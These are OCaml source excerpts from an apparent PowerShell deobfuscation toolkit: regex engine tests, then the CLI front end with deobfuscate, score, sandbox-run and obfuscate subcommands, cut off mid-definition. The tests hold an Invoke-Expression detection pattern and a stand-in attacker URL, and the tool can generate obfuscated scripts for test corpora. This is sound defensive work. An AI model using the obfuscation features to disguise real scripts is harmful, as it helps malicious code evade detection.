  check_s "plus" "bb" (first_match "b+" "abbc");
  check_s "option" "color" (first_match "colou?r" "color");
  check_s "exact count" "aaa" (first_match "a{3}" "aaaa");
  check_s "range count" "aaaa" (first_match "a{2,4}" "aaaaa");
  check_s "open range" "aaaaa" (first_match "a{2,}" "aaaaa");
  check_s "lazy" "\"a\"" (first_match "\".*?\"" "\"a\" and \"b\"");
  check_b "brace literal when not quantifier" true (matches "a{x}" "a{x}")

let test_anchors () =
  check_b "bol" true (matches "^abc" "abc def");
  check_b "bol fail" false (matches "^def" "abc def");
  check_b "eol" true (matches "def$" "abc def");
  check_b "word boundary" true (matches {|\bcat\b|} "a cat sat");
  check_b "word boundary fail" false (matches {|\bcat\b|} "concatenate");
  check_b "multiline bol" true (matches "^second" "first\nsecond")

let test_alternation_groups () =
  check_s "alt" "dog" (first_match "cat|dog" "a dog");
  check_s "group" "abab" (first_match "(ab)+" "xababy");
  check_b "noncapture" true (matches "(?:ab)+c" "ababc");
  let m = Option.get (Regex.find (Regex.compile "(a+)(b+)") "xaabbby") in
  Alcotest.(check (option string)) "group1" (Some "aa") (Regex.group_text "xaabbby" m 1);
  Alcotest.(check (option string)) "group2" (Some "bbb") (Regex.group_text "xaabbby" m 2)

let test_backreference () =
  check_b "backref" true (matches {|(ab)\1|} "xabab");
  check_b "backref caseless" true (matches {|(ab)\1|} "xabAB");
  check_b "backref fail" false (matches {|(ab)\1|} "abac")

let test_escapes () =
  check_b "hex escape" true (matches {|\x41|} "A");
  check_b "newline" true (matches {|a\nb|} "a\nb");
  check_b "escaped dot" false (matches {|a\.b|} "axb");
  check_b "escaped metachars" true (matches {|\(\)\[\]\{\}\*\+\?|} "()[]{}*+?")

let test_find_all () =
  let r = Regex.compile {|\d+|} in
  let ms = Regex.find_all r "a1b22c333" in
  check_i "count" 3 (List.length ms);
  Alcotest.(check (list string)) "texts" [ "1"; "22"; "333" ]
    (List.map (fun m -> Regex.matched_text "a1b22c333" m) ms)

let test_find_all_empty_matches_terminate () =
  let r = Regex.compile "x*" in
  let ms = Regex.find_all r "aaa" in
  check_b "terminates" true (List.length ms <= 4)

let test_replace () =
  let r = Regex.compile {|(\w+)@(\w+)|} in
  check_s "group template" "b.a" (Regex.replace r ~template:"$2.$1" "a@b");
  check_s "whole match" "<x1>" (Regex.replace (Regex.compile {|\w+|}) ~template:"<$&>" "x1");
  check_s "dollar escape" "$" (Regex.replace (Regex.compile "a") ~template:"$$" "a");
  check_s "braced group" "B" (Regex.replace (Regex.compile "(a)") ~template:"B" "a")

let test_replace_f () =
  let r = Regex.compile {|\d+|} in
  let out =
    Regex.replace_f r "a2b10"
      ~f:(fun subj m -> string_of_int (int_of_string (Regex.matched_text subj m) * 2))
  in
  check_s "computed" "a4b20" out

let test_split () =
  Alcotest.(check (list string)) "split basic" [ "a"; "b"; "c" ]
    (Regex.split (Regex.compile ",") "a,b,c");
  Alcotest.(check (list string)) "empty fields" [ "a"; ""; "b" ]
    (Regex.split (Regex.compile ",") "a,,b");
  Alcotest.(check (list string)) "no match" [ "abc" ]
    (Regex.split (Regex.compile ",") "abc");
  Alcotest.(check (list string)) "leading" [ ""; "a" ]
    (Regex.split (Regex.compile ",") ",a")

let test_quote () =
  let meta = "a.b*c(d)" in
  check_b "quoted matches itself" true (matches (Regex.quote meta) meta);
  check_b "quoted does not wildcard" false (matches (Regex.quote "a.c") "abc")

let test_parse_errors () =
  List.iter
    (fun pat ->
      check_b ("rejects " ^ pat) true
        (match Regex.compile_opt pat with Error _ -> true | Ok _ -> false))
    [ "("; ")"; "[abc"; "*"; "a(?=b)"; "\\" ]

let test_baseline_patterns () =
  (* patterns the baseline tools actually use *)
  check_s "concat merge" "'ab'"
    (Regex.replace (Regex.compile {|'([^']*)'\s*\+\s*'([^']*)'|}) ~template:"'$1$2'"
       "'a' + 'b'");
  check_b "iex detect" true (matches {|\biex\b|} "cmd | IEX");
  check_b "url" true (matches {|https?://[a-z0-9\.\-]+/|} "GET https://evil.example.com/x")

let prop_quote_always_matches_self =
  QCheck.Test.make ~name:"regex: quoted literal matches itself" ~count:300
    QCheck.(string_of_size Gen.(int_range 0 20))
    (fun s ->
      match Regex.compile_opt (Regex.quote s) with
      | Ok r -> s = "" || Regex.is_match r s
      | Error _ -> false)

let prop_split_rejoin =
  QCheck.Test.make ~name:"regex: concat of split parts = original minus seps"
    ~count:300
    QCheck.(string_of_size Gen.(int_range 0 30))
    (fun s ->
      let parts = Regex.split (Regex.compile ",") s in
      String.concat "" parts = String.concat "" (String.split_on_char ',' s))

let suite =
  [
    ("literals", `Quick, test_literals);
    ("classes", `Quick, test_classes);
    ("quantifiers", `Quick, test_quantifiers);
    ("anchors", `Quick, test_anchors);
    ("alternation/groups", `Quick, test_alternation_groups);
    ("backreference", `Quick, test_backreference);
    ("escapes", `Quick, test_escapes);
    ("find_all", `Quick, test_find_all);
    ("find_all empty termination", `Quick, test_find_all_empty_matches_terminate);
    ("replace", `Quick, test_replace);
    ("replace_f", `Quick, test_replace_f);
    ("split", `Quick, test_split);
    ("quote", `Quick, test_quote);
    ("parse errors", `Quick, test_parse_errors);
    ("baseline patterns", `Quick, test_baseline_patterns);
    QCheck_alcotest.to_alcotest prop_quote_always_matches_self;
    QCheck_alcotest.to_alcotest prop_split_rejoin;
  ]
