(* invoke-deobfuscation — command-line front end.

   Subcommands:
     deobfuscate   recover a script (file or stdin), print or write result
     score         print the obfuscation score and detected techniques
     tokens        dump the token stream
     ast           dump the AST
     run           execute a script in the behaviour sandbox, print events
     obfuscate     apply obfuscation techniques (for testing / corpora)
     keyinfo       extract URLs / IPs / ps1 paths / powershell commands
     compare       run every tool on a script and print each result *)

open Cmdliner

let read_input = function
  | None | Some "-" -> In_channel.input_all In_channel.stdin
  | Some path -> In_channel.with_open_bin path In_channel.input_all

let write_output output = function
  | None -> print_string output
  | Some path -> Out_channel.with_open_bin path (fun oc -> Out_channel.output_string oc output)

let input_arg =
  Arg.(value & pos 0 (some string) None & info [] ~docv:"FILE" ~doc:"Input script (defaults to stdin).")

let output_arg =
  Arg.(value & opt (some string) None & info [ "o"; "output" ] ~docv:"FILE" ~doc:"Write the result to $(docv).")

(* ---------- deobfuscate ---------- *)

module T = Pscommon.Telemetry

let pct hits attempted =
  if attempted = 0 then 0.0
  else 100.0 *. float_of_int hits /. float_of_int attempted

let phase_ms_line timings =
  String.concat ", "
    (List.map (fun (p, ms) -> Printf.sprintf "%s %.1f" p ms) timings)

(* --summary: the self-healing plane's state, shared by the single-file and
   batch digests — worker churn counters, quarantined rules, and where the
   heap sits against the governor's watermarks *)
let print_selfheal_summary () =
  let c name = T.Metrics.counter_value (T.Metrics.counter name) in
  Printf.eprintf
    "workers: %d recycled (%d under memory pressure), %d wedged, %d \
     respawns (%d failed)\n"
    (c "pool.service.recycled")
    (c "pool.service.recycled_mem")
    (c "pool.service.wedged")
    (c "pool.service.respawns")
    (c "pool.service.respawn_failures");
  (match Deobf.Quarantine.snapshot () with
  | [] ->
      Printf.eprintf "quarantine: %s, no open rules\n"
        (if Deobf.Quarantine.enabled () then "on" else "off")
  | rules ->
      Printf.eprintf "quarantine: %s\n"
        (String.concat ", "
           (List.map (fun (rule, st) -> rule ^ "=" ^ st) rules)));
  Printf.eprintf "memory: %s (heap %.1f MiB%s)\n"
    (Pscommon.Memwatch.level_name (Pscommon.Memwatch.level ()))
    (float_of_int (Pscommon.Memwatch.heap_bytes ()) /. 1048576.0)
    (match Pscommon.Memwatch.soft_watermark_bytes () with
    | None -> ", watermarks off"
    | Some b -> Printf.sprintf ", soft %.0f MiB" (float_of_int b /. 1048576.0))

(* --summary: the one-screen digest of a single-file run *)
let print_file_summary src (guarded : Deobf.Engine.guarded) =
  let result = guarded.Deobf.Engine.result in
  let stats = result.Deobf.Engine.stats in
  let score_before =
    Deobf.Score.score_of_detection (Deobf.Score.detect src)
  in
  let score_after =
    Deobf.Score.score_of_detection
      (Deobf.Score.detect result.Deobf.Engine.output)
  in
  Printf.eprintf
    "== summary ==\n\
     score: %d -> %d\n\
     pieces: %d recovered, %d blocked, %d attempted (cache hit-rate %.1f%%)\n\
     variables substituted: %d, layers unwrapped: %d\n\
     dynamic: %d recovered of %d attempted, %d unverifiable\n\
     iterations: %d, changed: %b, contained failures: %d\n\
     phase ms: %s\n"
    score_before score_after stats.Deobf.Recover.pieces_recovered
    stats.Deobf.Recover.pieces_blocked stats.Deobf.Recover.pieces_attempted
    (pct stats.Deobf.Recover.cache_hits stats.Deobf.Recover.pieces_attempted)
    stats.Deobf.Recover.variables_substituted
    stats.Deobf.Recover.layers_unwrapped
    stats.Deobf.Recover.dynamic_recovered stats.Deobf.Recover.dynamic_attempted
    stats.Deobf.Recover.dynamic_unverifiable result.Deobf.Engine.iterations
    result.Deobf.Engine.changed
    (List.length guarded.Deobf.Engine.failures)
    (phase_ms_line guarded.Deobf.Engine.timings);
  print_selfheal_summary ()

(* --summary: the one-screen digest of a batch run *)
let print_batch_summary (s : Deobf.Batch.summary) =
  let sum f =
    List.fold_left
      (fun acc (o : Deobf.Batch.outcome) -> acc + f o.Deobf.Batch.stats)
      0 s.Deobf.Batch.outcomes
  in
  let recovered = sum (fun st -> st.Deobf.Recover.pieces_recovered) in
  let blocked = sum (fun st -> st.Deobf.Recover.pieces_blocked) in
  let attempted = sum (fun st -> st.Deobf.Recover.pieces_attempted) in
  let hits = sum (fun st -> st.Deobf.Recover.cache_hits) in
  let unwrapped = sum (fun st -> st.Deobf.Recover.layers_unwrapped) in
  let dyn_attempted = sum (fun st -> st.Deobf.Recover.dynamic_attempted) in
  let dyn_recovered = sum (fun st -> st.Deobf.Recover.dynamic_recovered) in
  let dyn_unverifiable =
    sum (fun st -> st.Deobf.Recover.dynamic_unverifiable)
  in
  let phase_totals =
    List.fold_left
      (fun acc (o : Deobf.Batch.outcome) ->
        List.fold_left
          (fun acc (phase, ms) ->
            let prev = Option.value ~default:0.0 (List.assoc_opt phase acc) in
            (phase, prev +. ms) :: List.remove_assoc phase acc)
          acc o.Deobf.Batch.phase_ms)
      [] s.Deobf.Batch.outcomes
    |> List.sort (fun (a, _) (b, _) -> String.compare a b)
  in
  Printf.eprintf
    "== batch summary ==\n\
     files: %d (%d clean, %d degraded) in %.1f ms\n\
     pieces: %d recovered, %d blocked, %d attempted (cache hit-rate %.1f%%)\n\
     layers unwrapped: %d\n\
     dynamic: %d recovered of %d attempted, %d unverifiable\n\
     phase ms: %s\n"
    s.Deobf.Batch.total s.Deobf.Batch.clean s.Deobf.Batch.degraded
    s.Deobf.Batch.wall_ms recovered blocked attempted (pct hits attempted)
    unwrapped dyn_recovered dyn_attempted dyn_unverifiable
    (phase_ms_line phase_totals);
  print_selfheal_summary ()

let deobfuscate_cmd =
  let run input output no_tracing no_blocklist no_multilayer no_rename
      no_reformat no_token_phase no_piece_cache no_partial no_dynamic chaos
      stats batch
      jobs timeout trace log_level log_format summary_flag verify_flag
      no_verify resume serve queue_cap cache_cap piece_cache_dir trace_sample
      metrics_out metrics_addr flight_dir client no_quarantine grace
      mem_soft_mb mem_hard_mb max_major_mb =
    Option.iter (fun l -> T.Log.set_level (Some l)) log_level;
    Option.iter T.Log.set_format log_format;
    (* the flight recorder is mode-independent: batch dumps on pool-task
       faults and diverged verdicts, serve additionally on recycle/deadline *)
    Option.iter (fun d -> T.Flight.set_sink (Some d)) flight_dir;
    (match
       match chaos with Some s -> Some s | None -> Sys.getenv_opt "INVOKE_DEOBF_CHAOS"
     with
    | None -> ()
    | Some spec -> (
        match Pscommon.Chaos.parse_spec spec with
        | Ok cfg -> Pscommon.Chaos.set (Some cfg)
        | Error msg ->
            Printf.eprintf "--chaos: %s\n" msg;
            exit 2));
    let options =
      {
        Deobf.Engine.token_phase = not no_token_phase;
        recovery =
          { Deobf.Recover.default_options with
            use_tracing = not no_tracing;
            use_blocklist = not no_blocklist;
            use_multilayer = not no_multilayer;
            use_piece_cache = not no_piece_cache;
            use_dynamic = not no_dynamic };
        rename = not no_rename;
        reformat = not no_reformat;
        max_iterations = Deobf.Engine.default_options.Deobf.Engine.max_iterations;
        partial = not no_partial;
      }
    in
    (match client with
    | None -> ()
    | Some addr -> (
        (* client mode: submit files to a running daemon over NDJSON,
           honouring its backpressure (retry_after_ms + jittered backoff) *)
        match Deobf.Serve.parse_bind addr with
        | Error msg ->
            Printf.eprintf "--client: %s\n" msg;
            exit 2
        | Ok bind ->
            let files =
              match input with
              | Some d when d <> "-" && Sys.file_exists d && Sys.is_directory d
                ->
                  Sys.readdir d |> Array.to_list |> List.sort String.compare
                  |> List.filter_map (fun f ->
                         let p = Filename.concat d f in
                         if Sys.is_directory p then None else Some p)
              | Some f when f <> "-" -> [ f ]
              | _ ->
                  Printf.eprintf
                    "deobfuscate --client requires a file or directory \
                     argument\n";
                  exit 2
            in
            let verify =
              if verify_flag then Some true
              else if no_verify then Some false
              else None
            in
            exit
              (Deobf.Client.run ?timeout_s:timeout ?verify ?out_dir:output
                 ~addr:bind files)));
    (match serve with
    | None -> ()
    | Some addr -> (
        (* daemon mode: serve NDJSON requests over a socket until
           SIGTERM/SIGINT or a shutdown request drains the server *)
        match Deobf.Serve.parse_bind addr with
        | Error msg ->
            Printf.eprintf "--serve: %s\n" msg;
            exit 2
        | Ok bind ->
            let metrics_addr =
              match metrics_addr with
              | None -> None
              | Some spec -> (
                  match Deobf.Serve.parse_bind spec with
                  | Ok b -> Some b
                  | Error msg ->
                      Printf.eprintf "--metrics-addr: %s\n" msg;
                      exit 2)
            in
            let base = Deobf.Serve.default_config bind in
            let cfg =
              { base with
                Deobf.Serve.jobs =
                  (match jobs with
                  | Some n -> max 1 n
                  | None -> Pscommon.Pool.recommended_jobs ());
                queue_cap = max 1 queue_cap;
                default_timeout_s =
                  Option.value timeout
                    ~default:base.Deobf.Serve.default_timeout_s;
                options;
                verify = verify_flag && not no_verify;
                cache_cap = max 1 cache_cap;
                piece_cache_dir;
                trace_dir =
                  (match trace with None | Some "" -> None | d -> d);
                trace_sample;
                metrics_out;
                metrics_addr;
                flight_dir;
                grace_s = (match grace with Some g -> Float.max 0.01 g | None -> base.Deobf.Serve.grace_s);
                mem_soft_mb;
                mem_hard_mb;
                max_major_bytes =
                  Option.map (fun mb -> mb * 1024 * 1024) max_major_mb;
                quarantine = not no_quarantine }
            in
            exit (Deobf.Serve.run cfg)));
    if batch then begin
      (* per-file isolation: a hanging or crashing sample is contained by
         its own deadline and recorded; the batch continues *)
      let dir =
        match input with
        | Some d when d <> "-" -> d
        | _ ->
            Printf.eprintf "deobfuscate --batch requires a directory argument\n";
            exit 2
      in
      if not (Sys.file_exists dir && Sys.is_directory dir) then begin
        Printf.eprintf "deobfuscate --batch: not a directory: %s\n" dir;
        exit 2
      end;
      let out_dir =
        match output with Some o -> o | None -> dir ^ "-deobfuscated"
      in
      let timeout_s = Option.value timeout ~default:30.0 in
      let jobs =
        match jobs with
        | Some n -> max 1 n
        | None -> Pscommon.Pool.recommended_jobs ()
      in
      (* bare --trace puts the per-file JSONL streams next to the outputs *)
      let trace_dir =
        match trace with
        | None -> None
        | Some "" -> Some out_dir
        | Some dir -> Some dir
      in
      let summary =
        Deobf.Batch.run_dir ~options ~timeout_s ~out_dir ?trace_dir
          ?trace_sample ~jobs ~verify:(not no_verify) ~resume
          ?piece_cache_dir dir
      in
      print_endline (Deobf.Batch.summary_to_json summary);
      T.Log.info (fun () ->
          Printf.sprintf "%d files: %d clean, %d degraded (reports in %s)"
            summary.Deobf.Batch.total summary.Deobf.Batch.clean
            summary.Deobf.Batch.degraded out_dir);
      if summary_flag then print_batch_summary summary;
      (* exit 0 only when every file came through clean at full strength;
         2 signals that at least one file degraded, needed the retry
         ladder, or failed the semantic gate without a successful rollback,
         so callers scripting over corpora can detect it *)
      if summary.Deobf.Batch.degraded > 0
         || Deobf.Batch.diverged_count summary > 0
      then exit 2
    end
    else begin
      let src = read_input input in
      let file_trace =
        match trace with None -> None | Some path -> Some (path, T.create ())
      in
      let run_once ?(suppress = []) () =
        Deobf.Engine.run_guarded ~options
          ~timeout_s:(Option.value timeout ~default:infinity)
          ~suppress src
      in
      let compute () =
        let guarded = run_once () in
        if verify_flag then
          let g, o =
            Deobf.Verify.gate
              ~rerun:(fun ~suppress -> run_once ~suppress ())
              ~src guarded
          in
          (g, Some o)
        else (guarded, None)
      in
      let guarded, verify_outcome =
        match file_trace with
        | None -> compute ()
        | Some (_, tr) -> T.with_trace tr compute
      in
      (match file_trace with
      | None -> ()
      | Some ("", tr) -> prerr_string (T.to_jsonl tr)
      | Some (path, tr) ->
          Out_channel.with_open_bin path (fun oc ->
              Out_channel.output_string oc (T.to_jsonl tr)));
      let result = guarded.Deobf.Engine.result in
      write_output result.Deobf.Engine.output output;
      (match verify_outcome with
      | None -> ()
      | Some o ->
          Printf.eprintf "verify: %s%s\n"
            (Deobf.Verify.verdict_name o.Deobf.Verify.verdict)
            (match Deobf.Verify.verdict_detail o.Deobf.Verify.verdict with
            | None -> ""
            | Some d -> " (" ^ d ^ ")"));
      List.iter
        (fun (site : Deobf.Engine.failure_site) ->
          T.Log.warn (fun () ->
              Printf.sprintf "contained failure in %s: %s" site.phase
                (Pscommon.Guard.failure_to_string site.failure)))
        guarded.Deobf.Engine.failures;
      if summary_flag then print_file_summary src guarded;
      if stats then
        Printf.eprintf
          "pieces recovered: %d\nvariables substituted: %d\nlayers unwrapped: %d\npieces attempted: %d (blocked: %d, cache hits: %d)\niterations: %d\nchanged: %b\n"
          result.stats.Deobf.Recover.pieces_recovered
          result.stats.Deobf.Recover.variables_substituted
          result.stats.Deobf.Recover.layers_unwrapped
          result.stats.Deobf.Recover.pieces_attempted
          result.stats.Deobf.Recover.pieces_blocked
          result.stats.Deobf.Recover.cache_hits
          result.Deobf.Engine.iterations result.Deobf.Engine.changed
    end
  in
  let flag names doc = Arg.(value & flag & info names ~doc) in
  Cmd.v
    (Cmd.info "deobfuscate" ~doc:"Recover an obfuscated PowerShell script.")
    Term.(
      const run $ input_arg $ output_arg
      $ flag [ "no-tracing" ] "Disable variable tracing (ablation)."
      $ flag [ "no-blocklist" ] "Disable the command blocklist (ablation)."
      $ flag [ "no-multilayer" ] "Disable Invoke-Expression unwrapping (ablation)."
      $ flag [ "no-rename" ] "Keep randomised identifier names."
      $ flag [ "no-reformat" ] "Keep original whitespace."
      $ flag [ "no-token-phase" ] "Disable token-level (L1) recovery (ablation)."
      $ flag [ "no-piece-cache" ] "Disable the piece result cache (ablation)."
      $ flag [ "no-partial" ]
          "Disable partial-parse recovery: unparseable files are returned \
           unchanged instead of being segmented into recoverable regions."
      $ flag [ "no-dynamic" ]
          "Disable provenance-guided dynamic recovery of loop/conditional \
           regions (ablation): the output is exactly the static-only \
           pipeline's."
      $ Arg.(
          value
          & opt (some string) None
          & info [ "chaos" ] ~docv:"SEED:RATE"
              ~doc:
                "Deterministic fault injection for resilience testing: \
                 inject containment-taxonomy faults at named probe points \
                 with probability $(i,RATE), seeded by $(i,SEED).  Optional \
                 per-site overrides: SEED:RATE:site=rate,site=rate.  Also \
                 read from $(b,INVOKE_DEOBF_CHAOS) when the flag is absent.")
      $ flag [ "stats" ] "Print recovery statistics to stderr."
      $ flag [ "batch" ]
          "Treat FILE as a directory of samples: process each file in \
           crash-isolated fashion, writing recovered scripts, per-file \
           failure reports and batch_report.json to the output directory \
           (-o, default FILE-deobfuscated)."
      $ Arg.(
          value
          & opt (some int) None
          & info [ "j"; "jobs" ] ~docv:"N"
              ~doc:
                "Process $(docv) files in parallel in --batch mode \
                 (default: the number of cores).  Outputs are byte-identical \
                 to a sequential run.")
      $ Arg.(
          value
          & opt (some float) None
          & info [ "timeout" ] ~docv:"SECONDS"
              ~doc:
                "Wall-clock budget per script; overruns degrade to partial \
                 recovery and are reported (default: unlimited, 30s in \
                 --batch mode).")
      $ Arg.(
          value
          & opt ~vopt:(Some "") (some string) None
          & info [ "trace" ] ~docv:"PATH"
              ~doc:
                "Record a span/event trace of the run as JSONL.  Single \
                 file: write to $(docv), or to stderr with bare $(b,--trace). \
                 In $(b,--batch) mode $(docv) is a directory receiving one \
                 <file>.trace.jsonl stream per input (bare $(b,--trace): the \
                 output directory).")
      $ Arg.(
          value
          & opt
              (some
                 (enum
                    [ ("error", T.Log.Error); ("warn", T.Log.Warn);
                      ("info", T.Log.Info); ("debug", T.Log.Debug) ]))
              None
          & info [ "log-level" ] ~docv:"LEVEL"
              ~doc:
                "Enable diagnostic logging to stderr at $(docv) and above \
                 (error|warn|info|debug; default: silent).")
      $ Arg.(
          value
          & opt (some (enum [ ("text", T.Log.Text); ("json", T.Log.Json) ]))
              None
          & info [ "log-format" ] ~docv:"FORMAT"
              ~doc:
                "Log line format: $(b,text) (the default, \"[level] msg\") \
                 or $(b,json) — one JSON object per line with ts, level, \
                 domain id, msg and structured fields, for log pipelines.")
      $ flag [ "summary" ]
          "Print a one-screen digest to stderr: scores, pieces \
           recovered/blocked, layers unwrapped, cache hit-rate, per-phase \
           milliseconds."
      $ flag [ "verify" ]
          "Single-file mode: run the semantic-equivalence gate — execute \
           original and result in the behaviour sandbox, compare canonical \
           effect logs, and on divergence bisect the edit journal and roll \
           the offending rewrites back.  Prints the verdict to stderr.  \
           (In --batch mode the gate is on by default; see --no-verify.)"
      $ flag [ "no-verify" ]
          "Batch mode: disable the semantic-equivalence gate (ablation). \
           Outputs are then emitted unverified and verdicts are null."
      $ flag [ "resume" ]
          "Batch mode: resume an interrupted run.  Reads manifest.jsonl \
           from the output directory and skips every file whose recorded \
           clean result matches the current input digest and options and \
           whose output file still exists; everything else is \
           (re)processed.  Outputs are byte-identical to an uninterrupted \
           run."
      $ Arg.(
          value
          & opt ~vopt:(Some "unix:invoke-deobf.sock") (some string) None
          & info [ "serve" ] ~docv:"ADDR"
              ~doc:
                "Run as a long-lived daemon on $(docv) (unix:PATH or \
                 tcp:HOST:PORT; bare $(b,--serve) binds \
                 unix:invoke-deobf.sock).  Speaks NDJSON: one JSON request \
                 per line (ops: deobfuscate, health, metrics, shutdown), \
                 one JSON response line per request.  Honours --jobs, \
                 --timeout (per-request default), --verify, --chaos, \
                 --trace DIR and --log-level.  Requests beyond --queue-cap \
                 are shed with an explicit overloaded response; \
                 SIGTERM/SIGINT drain gracefully (exit 0).")
      $ Arg.(
          value
          & opt int 64
          & info [ "queue-cap" ] ~docv:"N"
              ~doc:
                "Serve mode: admission-control bound on queued requests; \
                 beyond it requests are answered \
                 {\"status\":\"overloaded\",\"retry_after_ms\":...} instead \
                 of queueing unboundedly.")
      $ Arg.(
          value
          & opt int 2048
          & info [ "cache-cap" ] ~docv:"N"
              ~doc:
                "Serve mode: capacity of the process-shared warm piece \
                 cache (entries; shared by all workers, persists across \
                 requests).")
      $ Arg.(
          value
          & opt (some string) None
          & info [ "piece-cache-dir" ] ~docv:"DIR"
              ~doc:
                "Persist cacheable piece results to $(docv) (created if \
                 missing) and reload them on later runs, so a re-run over \
                 the same corpus — or a restarted daemon — starts with a \
                 warm piece cache.  Entries are content-addressed, written \
                 atomically, and guarded by a fingerprint of the recovery \
                 options; a corrupt or foreign entry loads as a miss.  \
                 Applies to --batch and --serve modes.")
      $ Arg.(
          value
          & opt (some int) None
          & info [ "trace-sample" ] ~docv:"N"
              ~doc:
                "With --trace DIR: serialize only every $(docv)-th trace \
                 (by input index in --batch mode, by request sequence in \
                 --serve mode).  Unsampled runs still trace into a \
                 reusable in-memory ring, shaving the serialization cost.")
      $ Arg.(
          value
          & opt (some string) None
          & info [ "metrics-out" ] ~docv:"FILE"
              ~doc:
                "Serve mode: write a final metrics snapshot (counters, \
                 gauges, latency histograms) to $(docv) when the daemon \
                 drains.")
      $ Arg.(
          value
          & opt (some string) None
          & info [ "metrics-addr" ] ~docv:"ADDR"
              ~doc:
                "Serve mode: expose a Prometheus scrape endpoint \
                 ($(b,GET /metrics), text exposition format 0.0.4) on \
                 $(docv) (unix:PATH or tcp:HOST:PORT), on its own listener \
                 so scrapes never contend with request admission.  Renders \
                 the live registry plus rolling-window aggregates (sliding \
                 p50/p90/p99 request latency, req/s, shed rate).")
      $ Arg.(
          value
          & opt (some string) None
          & info [ "flight-dir" ] ~docv:"DIR"
              ~doc:
                "Enable the flight recorder: each domain keeps a bounded \
                 in-memory ring of its most recent spans and events, and on \
                 a fault (worker recycle, blown deadline, chaos \
                 containment, diverged verify verdict) the ring is dumped \
                 to $(docv) as a JSONL black box carrying the failing \
                 request's trace id.  Zero serialization cost until a dump \
                 triggers.")
      $ Arg.(
          value
          & opt (some string) None
          & info [ "client" ] ~docv:"ADDR"
              ~doc:
                "Submit FILE (or every file in a directory FILE) to a \
                 running --serve daemon at $(docv) (unix:PATH or \
                 tcp:HOST:PORT) over NDJSON, one request in flight at a \
                 time.  Overloaded responses are honoured: the client \
                 sleeps the server's retry_after_ms hint under jittered \
                 exponential backoff and retries (bounded).  With -o DIR \
                 recovered outputs are written next to each input's \
                 basename.  Honours --timeout and --verify/--no-verify \
                 per request.  Exit 0 when every file was answered.")
      $ flag [ "no-quarantine" ]
          "Serve mode: disable the adaptive rule quarantine — transforms \
           repeatedly rolled back by the semantic gate keep running at \
           full strength instead of being circuit-broken and re-admitted \
           via half-open probes."
      $ Arg.(
          value
          & opt (some float) None
          & info [ "grace" ] ~docv:"SECONDS"
              ~doc:
                "Serve mode: watchdog patience past a request's deadline \
                 before its worker is declared wedged, the client answered \
                 with a structured error, and the worker domain replaced \
                 (default 2s).")
      $ Arg.(
          value
          & opt (some int) None
          & info [ "mem-soft" ] ~docv:"MB"
              ~doc:
                "Serve mode: soft memory watermark in MiB.  While the \
                 major heap sits above it, new requests are shed with \
                 reason \"memory\" and the piece cache drops its cold \
                 generations (default: off).")
      $ Arg.(
          value
          & opt (some int) None
          & info [ "mem-hard" ] ~docv:"MB"
              ~doc:
                "Serve mode: hard memory watermark in MiB.  Above it, \
                 workers additionally recycle between requests, releasing \
                 domain-local state (default: off).")
      $ Arg.(
          value
          & opt (some int) None
          & info [ "max-major-mb" ] ~docv:"MB"
              ~doc:
                "Serve mode: per-request major-allocation budget in MiB; \
                 a request that allocates past it degrades to a structured \
                 out-of-memory failure at its next checkpoint instead of \
                 growing the daemon's heap (runtime-wide accounting — a \
                 generous backstop, not an SLA; default: off)."))

(* ---------- score ---------- *)

let score_cmd =
  let run input =
    let src = read_input input in
    let d = Deobf.Score.detect src in
    Printf.printf "score: %d\n" (Deobf.Score.score_of_detection d);
    let l1, l2, l3 = Deobf.Score.levels d in
    Printf.printf "levels: %s%s%s\n"
      (if l1 then "L1 " else "")
      (if l2 then "L2 " else "")
      (if l3 then "L3" else "");
    List.iter (Printf.printf "technique: %s\n") (Deobf.Score.technique_names d)
  in
  Cmd.v
    (Cmd.info "score" ~doc:"Quantify the obfuscation of a script (paper §IV-B2).")
    Term.(const run $ input_arg)

(* ---------- tokens ---------- *)

let tokens_cmd =
  let run input =
    let src = read_input input in
    match Pslex.Lexer.tokenize src with
    | Error e ->
        Printf.eprintf "lex error at %d: %s\n" e.Pslex.Lexer.position e.Pslex.Lexer.message;
        exit 1
    | Ok toks ->
        List.iter
          (fun t ->
            Printf.printf "%-18s %-14s %S\n"
              (Pslex.Token.kind_name t.Pslex.Token.kind)
              (Format.asprintf "%a" Pscommon.Extent.pp t.Pslex.Token.extent)
              t.Pslex.Token.content)
          toks
  in
  Cmd.v (Cmd.info "tokens" ~doc:"Dump the token stream.") Term.(const run $ input_arg)

(* ---------- ast ---------- *)

let ast_cmd =
  let run input =
    let src = read_input input in
    match Psparse.Parser.parse src with
    | Error e ->
        Printf.eprintf "parse error at %d: %s\n" e.Psparse.Parser.position e.Psparse.Parser.message;
        exit 1
    | Ok ast ->
        let rec dump depth node =
          let text = Psast.Ast.text src node in
          let text =
            if String.length text > 60 then String.sub text 0 57 ^ "..." else text
          in
          Printf.printf "%s%s %S\n" (String.make (2 * depth) ' ')
            (Psast.Ast.kind_name node) text;
          List.iter (dump (depth + 1)) (Psast.Ast.children node)
        in
        dump 0 ast
  in
  Cmd.v (Cmd.info "ast" ~doc:"Dump the abstract syntax tree.") Term.(const run $ input_arg)

(* ---------- run (sandbox) ---------- *)

let sandbox_cmd =
  let run input =
    let src = read_input input in
    let report = Sandbox.run src in
    List.iter
      (fun ev -> Printf.printf "event: %s\n" (Pseval.Env.event_to_string ev))
      report.Sandbox.events;
    List.iter
      (fun v -> Printf.printf "output: %s\n" (Psvalue.Value.to_string v))
      report.Sandbox.output;
    match report.Sandbox.error with
    | Some e ->
        Printf.printf "error: %s\n" e;
        exit 2
    | None -> ()
  in
  Cmd.v
    (Cmd.info "run" ~doc:"Execute a script in the behaviour sandbox and print its events.")
    Term.(const run $ input_arg)

(* ---------- obfuscate ---------- *)

let obfuscate_cmd =
  let run input output technique seed layers =
    let src = read_input input in
    let rng = Pscommon.Rng.of_int seed in
    let result =
      match technique with
      | Some name -> (
          match Obfuscator.Technique.of_name name with
          | Some t -> Obfuscator.Obfuscate.apply rng t src
          | None ->
              Printf.eprintf "unknown technique %s; available: %s\n" name
                (String.concat ", "
                   (List.map Obfuscator.Technique.name Obfuscator.Technique.all));
              exit 1)
      | None ->
          if layers > 0 then Obfuscator.Obfuscate.multilayer rng layers src
          else fst (Obfuscator.Obfuscate.wild_mix rng src)
    in
    write_output result output
  in
  Cmd.v
    (Cmd.info "obfuscate"
       ~doc:"Obfuscate a script (single technique, wild mix, or stacked layers).")
    Term.(
      const run $ input_arg $ output_arg
      $ Arg.(value & opt (some string) None & info [ "t"; "technique" ] ~docv:"NAME"
               ~doc:"Apply a single named technique.")
      $ Arg.(value & opt int 42 & info [ "seed" ] ~docv:"N" ~doc:"Deterministic seed.")
